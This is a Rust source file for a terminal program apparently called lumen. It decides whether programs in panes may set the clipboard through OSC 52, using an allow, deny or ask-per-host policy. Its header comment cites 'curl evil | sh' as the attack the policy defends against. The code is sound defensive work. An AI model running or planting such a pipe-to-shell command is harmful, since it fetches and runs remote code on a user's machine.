//! The clipboard: lumen's own copies (copy mode, paste buffer) and what programs in panes ask
//! for with OSC 52, which follows the `clipboard` policy (ask per host by default), because a
//! remote host setting the operator's clipboard to `curl evil | sh` is an attack.

use crate::app::config::ClipboardPolicy;
use crate::app::frontend::{ClientEffect, ClipboardRequest};
use crate::app::msg::Effect;
use crate::app::popup::{ClipboardDecision, Popup};
use crate::app::state::{App, PaneSpec};

impl App {
    /// lumen's own copy (copy mode): always allowed, kept for paste.
    pub(crate) fn copy(&mut self, text: String) {
        self.say(format!("copied {} characters", text.chars().count()));
        self.effects.push(Effect::Client(ClientEffect::Clipboard(
            ClipboardRequest::Set(text.clone()),
        )));
        self.clipboard = Some(text);
    }

    /// A program in the pane running `spec` asked to set the clipboard.
    pub(crate) fn program_copy(&mut self, spec: &PaneSpec, text: String) {
        let host = who(spec);
        match self.config.clipboard {
            ClipboardPolicy::Allow => self.copy(text),
            ClipboardPolicy::Deny => self.say(format!(
                "{host} tried to set the clipboard; refused (clipboard = \"deny\")"
            )),
            ClipboardPolicy::Ask if self.clipboard_hosts.contains(&host) => self.copy(text),
            ClipboardPolicy::Ask => self.open_popup(Popup::Clipboard { host, text }),
        }
    }

    /// The user answered a clipboard request.
    pub(crate) fn clipboard_answered(
        &mut self,
        host: String,
        text: String,
        decision: ClipboardDecision,
    ) {
        match decision {
            ClipboardDecision::Once => self.copy(text),
            ClipboardDecision::AlwaysForHost => {
                self.clipboard_hosts.insert(host);
                self.copy(text);
            }
            ClipboardDecision::Deny => self.say(format!("refused {host}'s clipboard request")),
        }
    }
}

/// Who is asking, as the dialog names it.
fn who(spec: &PaneSpec) -> String {
    match spec {
        PaneSpec::Ssh { name, .. } => name.clone(),
        _ => "a local shell".to_string(),
    }
}
